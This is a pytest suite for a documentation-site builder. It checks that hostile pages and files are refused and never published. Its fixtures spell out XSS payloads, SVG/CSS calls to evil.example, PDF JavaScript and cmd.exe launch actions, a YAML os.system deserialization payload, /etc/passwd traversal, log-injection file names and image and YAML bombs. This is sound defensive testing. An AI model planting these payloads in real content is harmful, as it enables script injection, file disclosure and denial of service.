"""A contribution is untrusted text: nothing hostile is published, and each is refused with its line."""

from __future__ import annotations

import base64
import os
import re
import struct
import zlib
from pathlib import Path

import material
import pytest
from lxml import html

from conftest import BRIEF, Build, Built, build_at, entry
from hostile import HOSTILE
from taklimat.security import svg
from taklimat.security.markup import findings
from taklimat.security.reporting import MAX_TOLD


def png(width: int, height: int) -> bytes:
    """The head of a PNG that claims so many pixels."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = b"IHDR" + head
    data = struct.pack(">I", len(head)) + chunk + struct.pack(">I", zlib.crc32(chunk))
    return b"\x89PNG\r\n\x1a\n" + data


# Each is put on line 5 of a page. Their models are the tricks that OWASP's list collects.
START = "# A page\n\nSome text.\n\n"


# What looks hostile and is text, or a comment, to every browser.
INERT = [
    "<p><!--[if IE]><script>alert(1)</script><![endif]--></p>",
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<!-- never closed",
]


@pytest.fixture(scope="module")
def refused(tmp_path_factory: pytest.TempPathFactory) -> Built:
    """What a build says of a site with all hostile pages and files at once."""
    pages = {f"docs/evil-{n}.md": f"{START}{text}\n" for n, text in enumerate(HOSTILE)}
    files = {named(n, path): content for n, (path, content, _) in enumerate(FILES)}
    return build_at(tmp_path_factory.mktemp("hostile"), {**pages, **files})


def test_the_corpus_is_large() -> None:
    assert len(set(HOSTILE)) + len(FILES) >= 150


@pytest.mark.parametrize("number", range(len(HOSTILE)), ids=[text[:40] for text in HOSTILE])
def test_hostile_text_is_refused_with_its_line(refused: Built, number: int) -> None:
    first, last = 5, 5 + HOSTILE[number].count("\n")
    places = [f"docs/evil-{number}.md:{line}: " for line in range(first, last + 1)]
    told = [line for line in refused.output.splitlines() if f"docs/evil-{number}.md:" in line]
    assert any(place in line for line in told for place in places), told


def test_nothing_hostile_is_published(refused: Built) -> None:
    assert refused.exit_code == 1
    assert not refused.site.exists()
    assert "Traceback" not in refused.output


@pytest.mark.parametrize("text", INERT)
def test_what_only_looks_hostile_stays_text(build: Build, text: str) -> None:
    built = build({"docs/x.md": f"{START}{text}\n"})
    assert built.exit_code == 0, built.output
    (content,) = html.fromstring(built.read("x/index.html")).iter("article")
    for element in content.iter():
        assert element.tag not in ("script", "img")
        assert not {"onclick", "onerror"} & set(element.keys())


def _multiplied(kind: str) -> str:
    """Parts that use each other, 25 deep, four times each: more than any machine can draw."""
    using = {
        "use": '<use xlink:href="#x{}"/>',
        "class": '<rect class="c{}"/>',
        "pattern": '<rect fill="url(#x{})"/>',
        "mask": '<g mask="url(#x{})"/>',
        "clipPath": '<rect clip-path="url(#x{})"/>',
        "marker": '<path d="M0 0L1 1L2 2L3 3" marker-mid="url(#x{})"/>',
        "filter": "<rect style=\"filter:u\\72l('#x{}')\"/>",
    }[kind]
    tag = {"use": "g", "class": "mask", "filter": "g"}.get(kind, kind)
    rules = "".join(f".c{n}{{mask:url(#x{n})}}" for n in range(26) if kind == "class")
    levels = (f'<{tag} id="x{n}">{using.format(n + 1) * 4}</{tag}>' for n in range(25))
    return f"{''.join(levels)}<g id='x25'/><style>{rules}</style>{using.format(0)}"


SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
# Each file with the place that is named; `*` stands for a number that keeps names apart.
FILES: list[tuple[str, str | bytes, str]] = [
    ("docs/data*.html", "<script>alert(1)</script>", ""),
    ("docs/code*.js", "alert(1)", ""),
    ("docs/code*.mjs", "alert(1)", ""),
    ("docs/code*.wasm", b"\0asm", ""),
    ("docs/look*.css", "@import 'https://evil.example/';", ""),
    ("docs/page*.xhtml", "<html/>", ""),
    ("docs/page*.xml", "<x/>", ""),
    ("docs/app*.swf", b"FWS", ""),
    ("docs/none*", "x", ""),
    *(
        ("docs/a*.svg", svg, ":2")
        for svg in (
            f"<svg {SVG}>\n<script>alert(1)</script></svg>",
            f'<svg {SVG}>\n<a xlink:href="javascript:alert(1)"/></svg>',
            f'<svg {SVG}>\n<g\nonload="alert(1)"/></svg>',
            f'<svg {SVG}>\n<a href="jav&#x09;ascript:alert(1)"/></svg>',
            f'<svg {SVG}>\n<a href="data:text/html,x"/></svg>',
            f"<svg {SVG}>\n<foreignObject/></svg>",
            f'<svg {SVG}>\n<animate attributeName="href"/></svg>',
            f'<svg {SVG}>\n<set attributeName="xlink:href" to="javascript:alert(1)"/></svg>',
            f'<svg {SVG}>\n<animate attributeName="onclick" to="alert(1)"/></svg>',
            f"<svg {SVG}>\n<style>@import 'x';</style></svg>",
            f"<svg {SVG}>\n<style>@\\69mport 'x';</style></svg>",
            f"<svg {SVG}>\n<style>a{{fill:u\\72l(https://evil.example/)}}</style></svg>",
            f"<svg {SVG}>\n<style>a{{background:image-set('x' 1x)}}</style></svg>",
            f"<svg {SVG}>\n<style><![CDATA[a{{fill:url(//evil.example/x)}}]]></style></svg>",
            f"<svg {SVG}>\n<style>@font-face{{src:url(https://evil.example/x)}}</style></svg>",
            f"<svg {SVG}>\n<style>@namespace 'x';</style></svg>",
            f"<svg {SVG}>\n<style>a{{behavior:url(#x)}}</style></svg>",
            f'<svg {SVG}>\n<rect style="fill:url(https://evil.example/)"/></svg>',
            f'<svg {SVG}>\n<rect fill="url(https://evil.example/)"/></svg>',
            f'<svg {SVG}>\n<rect filter="u\\72l(https://evil.example/)"/></svg>',
            f'<svg {SVG}>\n<image href="https://evil.example/x"/></svg>',
            f'<svg {SVG}>\n<image href="//evil.example/x"/></svg>',
            f'<svg {SVG}>\n<image href="data:image/svg+xml;base64,PHN2Zy8+"/></svg>',
            f'<svg {SVG}>\n<feImage href="https://evil.example/x"/></svg>',
            f'<svg {SVG}>\n<use href="https://evil.example/x#y"/></svg>',
            f'<svg {SVG}>\n<use href="data:image/svg+xml,x#y"/></svg>',
            f'<svg {SVG} xmlns:a.b="http://www.w3.org/2000/svg">\n<a.b:script/></svg>',
            f'<svg {SVG} xmlns:h.x="http://www.w3.org/1999/xhtml">\n<h.x:script/></svg>',
            f'<svg {SVG} xmlns:h="http://www.w3.org/1999/xhtml">\n<g><h:img/></g></svg>',
            f'<svg {SVG} xmlns:m="http://www.w3.org/1998/Math/MathML">\n<m:math/></svg>',
            f'<svg {SVG} xmlns:e="http://www.w3.org/2001/xml-events">\n<g e:event="x"/></svg>',
            f'<svg {SVG}>\n<g xml:base="https://evil.example/"/></svg>',
            f"<svg {SVG}>\n<iframe/></svg>",
            f"<svg {SVG}>\n<handler/></svg>",
            f'<svg {SVG}>\n<g onfocusin="alert(1)"/></svg>',
            f"<svg {SVG}>\n<text>&nbsp;</text></svg>",
            f'<svg {SVG}>\n<feTurbulence numOctaves="2000000000"/></svg>',
            f'<svg {SVG}>\n<feMorphology radius="400"/></svg>',
            f'<svg {SVG}>\n<feGaussianBlur stdDeviation="1e9 2"/></svg>',
            f'<svg {SVG}>\n<feConvolveMatrix order="{"9" * 400}"/></svg>',
            f"<svg {SVG}>\n<g></svg>",
            "<?xml version='1.0'?>\n<?xml-stylesheet href='x.css'?><svg/>",
            '<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x "y">]><svg/>',
        )
    ),
    ("docs/a*.svg", '<?xml version="1.0" encoding="ISO-2022-JP"?><svg/>', ":1"),
    ("docs/a*.svg", f"<svg {SVG}><s\x1b(Bcript/></svg>", ":1"),
    ("docs/a*.svg", f"<svg {SVG}/>".encode("utf-16"), ":1"),
    ("docs/a*.svg", "<html xmlns='http://www.w3.org/1999/xhtml'/>", ":1"),
    ("docs/a*.svg", "<svg><rect/></svg>", ":1"),
    ("docs/a*.svg", f"<svg {SVG}>" + "<g>" * 300 + "</g>" * 300 + "</svg>", ":1"),
    *(
        ("docs/a*.svg", f"<svg {SVG}>{_multiplied(kind)}</svg>", ":1")
        for kind in ("use", "class", "pattern", "mask", "clipPath", "marker", "filter")
    ),
    ("docs/a*.svg", f'<svg {SVG}><g id="a"><use href="#a"/></g></svg>', ":1"),
    ("docs/x*.md", f"# x\n\n<svg>{_multiplied('use').replace('<style></style>', '')}</svg>\n", ":3"),
    (
        "docs/a*.svg",
        f"<svg {SVG}>\n<image href='data:image/png;base64,{base64.b64encode(png(40_000, 40_000)).decode()}'/></svg>",
        ":2",
    ),
    ("docs/a*.svg", f"<svg {SVG}>\n<image href='data:image/png;base64,AAA'/></svg>", ":2"),
    ("docs/x*.bib", "<html><script>alert(1)</script>", ""),
    ("docs/x*.yml", " \n<!-- --><script>alert(1)</script>", ""),
    ("docs/x*.txt", "\ufeff<p>x", ""),
    ("docs/x*.json", "\t<?xml version='1.0'?>", ""),
    ("docs/x*.csv", "\x0c<svg onload=alert(1)>", ""),
    *(
        ("docs/x*.pdf", b"%PDF-1.7\n1 0 obj\n<<" + entry_ + b">>\nendobj\n", "")
        for entry_ in (
            b"/OpenAction <</S /JavaScript /JS (app.alert(1))>>",
            b"/OpenAction <</S /URI /URI (https://evil.example/)>>",
            b"/A <</S /Jav#61Script /JS (app.alert(1))>>",
            b"/A <</S /Launch /F (cmd.exe)>>",
            b"/A <</S /SubmitForm /F (https://evil.example/)>>",
            b"/A <</S/GoToR/F(x.pdf)>>",
            b"/Type/Filespec/EF<</F 2 0 R>>/EmbeddedFile 3 0 R",
            b"/Encrypt 5 0 R",
        )
    ),
    (
        "docs/x*.pdf",
        b"%PDF-1.7\n1 0 obj\n<</Type /ObjStm /Filter /FlateDecode>>\nstream\n"
        + zlib.compress(b"2 0 3 9 <</S /JavaScript /JS (app.alert(1))>>")
        + b"\nendstream\nendobj\n",
        "",
    ),
    ("docs/x*.pdf", b"<html><script>alert(1)</script>", ""),
    ("docs/x*.md", "# x\n\n<table><tr><td colspan=3000000>a</td></tr></table>\n", ":3"),
    ("docs/x*.md", f"# x\n\n<ol start='{'9' * 5000}'><li>a</li></ol>\n", ":3"),
    ("docs/x*.md", "# x\n\n<ol><li value='1e9'>a</li></ol>\n", ":3"),
    ("docs/x*.md", f"# x\n\n<table><tr>{'<td colspan=50 rowspan=50>a</td>' * 20}</tr></table>\n", ":3"),
    ("docs/x*.md", "# x\n\n<a href='http://[x'>a</a>\n", ":3"),
    ("docs/x*.md", "# x\n\n[a](http://[x)\n", ":3"),
    ("docs/big*.png", b"0" * 5_000_001, ""),
    ("docs/big*.md", "x " * 600_000, ""),
    ("docs/fake*.png", b"<script>alert(1)</script>", ""),
    ("docs/fake*.jpg", f"<svg {SVG} width='1' height='1'/>", ""),
    ("docs/bomb*.png", png(60_000, 60_000), ""),
    ("docs/x*.md", "---\ntitle: <script>alert(1)</script>\n---\nx\n", ":2"),
    ("docs/x*.md", "---\ntitle: !!python/object/apply:os.system [id]\n---\nx\n", ":2"),
    ("docs/x*.md", "---\ntemplate: ../../evil.html\n---\nx\n", ":2"),
    ("docs/x*.md", "---\nicon: ../../../etc/passwd\n---\nx\n", ":2"),
    ("docs/x*.md", "---\nicon: nope/none\n---\nx\n", ":2"),
    ("docs/x*.md", '---\ntitle: "A \\x07 b"\n---\nx\n', ":2"),
    ("docs/x*.md", '---\ntitle: "A \\uD800 b"\n---\nx\n', ":2"),
    ("docs/x*.md", '---\n"\\n::error file=x::INJECTED": 1\n---\nx\n', ":2"),
    ("docs/x*.md", "---\nsearch: {boost: .inf}\n---\nx\n", ":2"),
    ("docs/x*.md", "---\nsearch: {boost: [1]}\n---\nx\n", ":2"),
    ("docs/x*.md", "---\ntags: [<img src=x onerror=alert(1)>]\n---\nx\n", ":2"),
    ("docs/x*.md", f"---\ntitle: {'9' * 5000}\n---\nx\n", ":2"),
    ("docs/x*.md", f"---\ntitle: {'1:' * 5000}1\n---\nx\n", ":2"),
    ("docs/x*.md", f"---\ntitle: {'[' * 20_000}\n---\nx\n", ":2"),
    ("docs/x*.md", "---\na: &a [x]\nb: &b [*a, *a]\nc: [*b, *b]\n---\nx\n", ":"),
    ("docs/x*.md", "# x\n\nA bell \x07.\n", ":3"),
    ("docs/x*.md", "# x\n\nRed: \x1b[31m.\n", ":3"),
    ("docs/x*.md", "# x\n\n" + "`" * 100_000, ":3"),
    ("docs/x*.md", "# x\n\n<!-- <" + " " * 60_000, ":3"),
    ("docs/x*.md", "# x\n\n" + "[a](" * 20_000, ":"),
    ("docs/x*.md", "# x\n\n" + "<![CDATA[" * 3000, ":3"),
    ("docs/x*.md", "# x\n\n" + "> " * 2000 + "x", ":3"),
    ("docs/x*.md", "# x\n\n" + "- " * 2000 + "x", ":3"),
    ("docs/x*.md", "# x\n\n" + "".join("    " * n + "- x\n" for n in range(300)), ":"),
    ("docs/x*.md", "# x\n\n" + "x[^1] " * 3000 + "\n\n[^1]: y\n", ":3"),
    ("docs/x*.md", "# x\n\n" + "".join(f"*[A{n}]: b\n" for n in range(3000)), ":"),
    ("docs/x*.md", "# x\n\nx\n" + ":   y\n" * 5000, ":"),
    ("docs/x*.md", "# x\n\n" + "<i>" * 30_000, ":"),
    ("docs/brief*.md", BRIEF.replace("What it says.", "<img src=x onerror=alert(1)>"), ":4"),
    ("docs/brief*.md", BRIEF.replace("It was the PSI.", "<img src=x onerror=alert(1)>"), ":10"),
    ("docs/brief*.md", BRIEF.replace("[tests]", '["<script>alert(1)</script>"]'), ":15"),
    ("glossary/vx*.md", entry(term="VXX") + "\n<script>alert(1)</script>\n", ":8"),
    ("glossary/vy*.md", entry(term="<b>VY"), ":4"),
    ("glossary/vz*.md", entry(term="VZ", definition="<script>alert(1)</script>"), ":3"),
    ("glossary/va*.md", entry(term="VA", category="<img src=x>"), ":2"),
    ("glossary/vb*.md", entry(term="VB", aliases=["</title><script>"]), ":3"),
    ("glossary/vc*.md", entry(term="VC") + "[" * 20_000, ":"),
    *(
        ("glossary/vt*.md", f"---\nterm: VT\ndefinition: x\ncategory: {value}\n---\n", ":")
        for value in ("!!bool maybe", '!!int ""', '!!int "_"', '!!float ""', "!!timestamp x")
    ),
    ("docs/x*.md", '---\ntitle: !!int "_"\n---\nx\n', ":2"),
    ("docs/assets/taklimat.js/x*.txt", "x", ""),
    ("docs/sitemap.xml/x*.txt", "x", ""),
    ("docs/brief/index.html/x*.txt", "x", ""),
    ("glossary/x*.html", "<script>alert(1)</script>", ""),
    *(
        (f"docs/sub*/{name}", "x", "")
        for name in (
            "CNAME", "robots.txt", "Robots.TXT", "_headers", "_redirects", "_routes.json",
            "staticwebapp.config.json", "web.config", "sw.js", "manifest.json", "vercel.json",
            "ads.txt", "security.txt", "sitemap.txt", "_config.yml",
        )
    ),
]  # fmt: skip


def named(number: int, path: str) -> str:
    return path.replace("*", f"-{number}")


@pytest.mark.parametrize("number", range(len(FILES)), ids=[file[0] for file in FILES])
def test_a_hostile_file_is_refused_with_its_place(refused: Built, number: int) -> None:
    path, _, place = FILES[number]
    told = [line for line in refused.output.splitlines() if named(number, path) in line]
    assert any(f"{named(number, path)}{place}" in line for line in told), told


# Files that may not even be read --------------------------------------------------------------

LINKS = {
    "docs/passwd.md": "/etc/passwd",
    "docs/snippets/x.md": "/etc/passwd",
    "docs/zero.md": "/dev/zero",
    "docs/loop.md": "loop.md",
    "docs/nowhere.md": "gone.md",
    "docs/circle": ".",
    "docs/up": "..",
    "docs/.hidden": "/",
    "docs/a.png": "/dev/urandom",
    "docs/data/claims.yml": "../../../outside.yml",
    "glossary/x.md": "/etc/passwd",
}


@pytest.mark.skipif(os.name == "nt", reason="symbolic links take rights on Windows")
def test_links_devices_and_pipes_are_refused_before_anything_is_read(tmp_path: Path) -> None:
    root = tmp_path / "site"
    (tmp_path / "outside.yml").write_text("secret: 'never shown", encoding="utf-8")
    for place, target in LINKS.items():
        (root / place).parent.mkdir(parents=True, exist_ok=True)
        (root / place).symlink_to(target)
    os.mkfifo(root / "docs/pipe.md")
    built = build_at(root, {}, extra={"taklimat": {"claims": "docs/data/claims.yml"}})
    assert built.exit_code == 1
    for place in (*LINKS, "docs/pipe.md"):
        assert f"{place}: " in built.output, built.output
    assert "secret" not in built.output
    assert "root:" not in built.output
    assert "Traceback" not in built.output
    assert not built.site.exists()


@pytest.mark.skipif(os.name == "nt", reason="such names can't be made on Windows")
@pytest.mark.parametrize(
    "name",
    [
        "<img src=x onerror=alert(1)>.md",
        "a\n::error file=x::INJECTED.md",
        "bell\x07.md",
        "red\x1b[31m.md",
        "turned\u202eexe.md",
        "zero\u200bwidth.md",
        'quote".md',
        "back\\slash.md",
        "what?.md",
        b"not-utf-8-\xff.md",
    ],
)
def test_a_name_that_does_something_is_refused(
    build: Build, tmp_path: Path, name: str | bytes
) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs" / os.fsdecode(name)).write_text("x", encoding="utf-8")
    built = build({})
    assert built.exit_code == 1
    assert "the file's name holds" in built.output
    assert not [line for line in built.output.splitlines() if line.startswith("::")]
    assert not re.search(r"[\x00-\x09\x0b-\x1f\u200b\u202e]", built.output)


@pytest.mark.skipif(os.name == "nt", reason="symbolic links take rights on Windows")
@pytest.mark.parametrize("folder", ["docs", "glossary", ".taklimat"])
def test_a_folder_that_is_a_link_out_of_the_project_is_refused(tmp_path: Path, folder: str) -> None:
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "project").mkdir()
    (tmp_path / "project" / folder).symlink_to("../elsewhere")
    built = build_at(tmp_path / "project", {})
    assert built.exit_code == 1
    assert f"{folder}: a symbolic link that leads out of the project" in built.output
    written = {path.name for path in (tmp_path / "elsewhere").iterdir()}
    assert not written & {"report.md", "schemas"}


def test_snippets_in_snippets_are_bounded(build: Build, tmp_path: Path) -> None:
    snippets = {
        f"docs/snippets/s{n}.md": f'--8<-- "s{n + 1}.md"\n\n' * 10 + "x\n" for n in range(10)
    }
    built = build(
        {"docs/x.md": '# X\n\n--8<-- "s0.md"\n', "docs/snippets/s10.md": "x\n", **snippets},
        markdown_extensions=[
            {
                "pymdownx.snippets": {
                    "base_path": [str(tmp_path / "docs/snippets")],
                    "check_paths": True,
                }
            }
        ],
        exclude_docs="/snippets/",
    )
    assert built.exit_code == 1
    assert "docs/x.md:1: more than 200 snippets on a page: include less" in built.output


def test_a_link_inside_docs_is_looked_at_like_its_name(build: Build, tmp_path: Path) -> None:
    (tmp_path / "docs").mkdir()
    (tmp_path / "docs/x.js").symlink_to("notes.txt")
    (tmp_path / "docs/x.svg").symlink_to("notes.txt")
    built = build({"docs/notes.txt": f"<svg {SVG}><script>alert(1)</script></svg>"})
    assert built.exit_code != 0
    assert "docs/x.js: files of the type .js" in built.output
    assert "docs/x.svg:1: the SVG holds <script>" in built.output


def test_a_file_for_hosts_is_published_where_settings_name_it(build: Build) -> None:
    built = build(
        {"docs/CNAME": "example.org", "docs/robots.txt": "User-agent: *"},
        extra={"taklimat": {"host_files": ["CNAME", "robots.txt"]}},
    )
    assert built.exit_code == 0, built.output
    assert built.read("CNAME") == "example.org"


def test_a_snippet_stays_inside_docs(build: Build) -> None:
    built = build(
        {"docs/x.md": '# X\n\n--8<-- "../../../../../../etc/passwd"\n'},
        markdown_extensions=[
            {"pymdownx.snippets": {"base_path": ["docs/snippets"], "check_paths": True}}
        ],
    )
    assert built.exit_code != 0
    assert "root:" not in built.output
    assert "docs/x.md:3: a snippet that is missing: ../" in built.output
    assert "Traceback" not in built.output


def test_templates_of_a_page_are_text(build: Build) -> None:
    built = build({"docs/x.md": "# X\n\n{{ config.site_name }} {% include '/etc/passwd' %}\n"})
    assert built.exit_code == 0, built.output
    assert "{{ config.site_name }} {% include" in built.read("x/index.html")


# What is safe --------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "markup",
    [
        '<p>x <a href="https://example.org/?a=b:c">x</a> <a href="../x/#y">y</a></p>',
        '<a href="mailto:x@example.org">x</a>',
        '<a href="https://example.org/" target="_blank" rel="noopener nofollow">x</a>',
        '<img alt="x" src="../x.png">',
        '<table><tbody><tr><td style="text-align: right;">x</td></tr></tbody></table>',
        '<input checked disabled type="checkbox"><label for="__tabbed_1_1">x</label>',
        '<svg viewBox="0 0 1 1"><path d="M0 0" marker-end="url(#arrow)"></path></svg>',
        '<svg xmlns="http://www.w3.org/2000/svg"><text fill="rgb(1, 2, 3)">x</text></svg>',
        "<details open><summary>x</summary><!-- a note --></details>",
        "<p>One<p>Two<ul><li>a<li>b</ul>",
    ],
)
def test_what_briefs_need_is_allowed(markup: str) -> None:
    assert findings(markup) == []


ILLUSTRATOR = """<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg"
   xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 10 10"
   style="enable-background:new 0 0 10 10;" xml:space="preserve">
<style type="text/css">
  .st0{fill:#FFFFFF;stroke:url(#SVGID_1_);font-family:'MyriadPro-Regular';}
  @media print{.st1{clip-path:url(#SVGID_2_);}}
</style>
<image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
<a xlink:href="https://example.org/"><path class="st0" d="M0,0h1"/></a>
</svg>"""
INKSCAPE = """<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<svg xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns="http://www.w3.org/2000/svg"
   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.2">
  <sodipodi:namedview id="base" pagecolor="#ffffff" inkscape:pageopacity="0.0"/>
  <metadata><rdf:RDF><cc:Work rdf:about=""><dc:type
    rdf:resource="http://purl.org/dc/dcmitype/StillImage"/></cc:Work></rdf:RDF></metadata>
  <defs><linearGradient id="g" inkscape:collect="always"><stop offset="0"
    style="stop-color:#000;stop-opacity:1"/></linearGradient></defs>
  <path style="fill:url(#g);-inkscape-font-specification:Sans;font-variant-ligatures:normal"
    d="m 0,0" inkscape:connector-curvature="0" sodipodi:nodetypes="cc"/>
</svg>"""


@pytest.mark.parametrize("picture", [ILLUSTRATOR, INKSCAPE], ids=["Illustrator", "Inkscape"])
def test_pictures_as_programs_save_them_are_allowed(picture: str) -> None:
    assert svg.findings(picture.encode()) == []


def test_the_themes_own_pictures_are_allowed() -> None:
    icons = list(Path(material.__file__).parent.glob("templates/.icons/material/a*.svg"))
    assert len(icons) > 100
    assert [icon for icon in icons if svg.findings(icon.read_bytes())] == []


# Many faults at once, and shapes that only another step would stumble over ---------------------


def test_of_thousands_of_faults_the_first_are_told(build: Build) -> None:
    text = "".join(f"<p z{n}>x</p>\n\n" for n in range(1000))
    built = build({"docs/x.md": f"# X\n\n{text}"})
    told = [line for line in built.output.splitlines() if "docs/x.md:" in line]
    assert len(told) == MAX_TOLD + 1
    assert any("docs/x.md:1: 900 more things that are not allowed" in line for line in told)


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("But a<b and c > d holds.", "<b and c>"),
        ("But a<code and d> b holds.\n\nSo it is.", "<code and d>"),
        ("Dear <your name>, so it is.", "<your name>"),
    ],
)
def test_a_sign_that_is_read_as_an_element_is_told_once(build: Build, text: str, told: str) -> None:
    brief = BRIEF.replace("It was the PSI.", "Not a < c and d.")
    built = build({"docs/brief.md": f"{brief}\nBefore it `{told}`.\n\n{text}\n"})
    line = brief.count("\n") + 4
    what = (
        f"docs/brief.md:{line}: words that are read as an element: {told}: write &lt; for the sign"
    )
    assert built.exit_code == 1
    [error] = [each for each in built.output.splitlines() if each.startswith("ERROR")]
    assert what in error


def test_what_is_wrong_with_a_text_is_not_looked_for_in_front_matter_first(build: Build) -> None:
    brief = BRIEF.replace("It was the PSI.", "'<b onclick=x> is said here only.'")
    text = brief.replace("summary: ", "summary: The align=left of it. # ", 1)
    built = build({"docs/brief.md": f"{text}\n[So](x.md){{ align=left }}\n", "docs/x.md": "# X\n"})
    line = text.count("\n") + 2
    assert f"docs/brief.md:{line}: the attribute align of <a> is not allowed" in built.output


def test_a_page_that_cannot_be_read_is_named_by_its_own_file(build: Build) -> None:
    brief = BRIEF.replace("It was the PSI.", '"a <b>b</b>"')
    picture = "\n![alt](p.png){ align=left }\n"
    data = "- id: x\n  text: An align=left of it.\n"
    built = build(
        {"docs/brief.md": brief + picture, "docs/p.png": png(1, 1), "docs/data/claims.yml": data},
        extra={"taklimat": {"claims": "docs/data/claims.yml"}},
    )
    line = brief.count("\n") + 2
    assert f"docs/brief.md:{line}: the attribute align of <img> is not allowed" in built.output


def test_dates_and_fields_that_nothing_can_write_are_told_or_left_out(build: Build) -> None:
    nested = "[" * 600 + "]" * 600
    built = build(
        {
            "s.json": f'[{{"id": "a", "title": "A", "custom": {nested}}}]',
            "t.yml": "- id: x\n  date: 9999-12-31\n  text: y\n  sources: [a]\n",
            "docs/brief.md": BRIEF.replace("change:", "sources: [a]\n    change:"),
            "docs/x.md": "# X\n\nSee it. [@a]\n",
        },
        extra={"taklimat": {"bibliography": "s.json", "timeline": "t.yml"}},
    )
    problems = re.findall(r"^ERROR   -  (.+)$", built.output, re.MULTILINE)
    assert len(problems) == 1
    assert problems[0].startswith("t.yml:2: `date` is 9999-12-31: write a year")


@pytest.mark.parametrize(
    "name", ["con.x.txt", "x/NUL.md", "COM1.md", "x./y.md", "x /y.md", "a.txt "]
)
def test_names_that_windows_cannot_have_are_refused(build: Build, name: str) -> None:
    built = build({f"docs/{name}": "# x\n"})
    assert built.exit_code == 1
    first = name.partition("/")[0] if name[1] in ". " else name
    assert f"docs/{first}: the file's name" in built.output


def test_names_that_differ_in_case_alone_are_refused(build: Build) -> None:
    built = build({"docs/Über.txt": "a", "docs/u\u0308ber.txt": "b", "docs/x/A.txt": "a"})
    assert "docs/Über.txt: another file differs" in built.output
    assert "docs/x/A.txt: another" not in built.output


def test_ordinary_pdfs_and_texts_are_published(build: Build) -> None:
    plain = (
        b"%PDF-1.7\n1 0 obj\n<</OpenAction [2 0 R /Fit] /A <</S /URI /URI (https://x.example/)>>>>"
    )
    files: dict[str, str | bytes | None] = {
        "docs/a.pdf": plain,
        "docs/b.pdf": plain.replace(b"[2 0 R /Fit]", b"3 0 R"),
        "docs/c.txt": "1 < 2",
        "docs/d.bib": "@misc{k, title={<b>}}",
        "docs/e.csv": "a,<b>\n",
        "docs/f.md": "# F\n\n<table><tr><td colspan='3' rowspan=2>a</td></tr></table>\n\n"
        "<ol start='7'><li value=9>a</li></ol>\n\n<meter value=0.5></meter>\n",
        "docs/console.txt": "x",
        "docs/aux-x.txt": "x",
    }
    built = build(files)
    assert built.exit_code == 0, built.output
    assert (built.site / "a.pdf").read_bytes() == plain
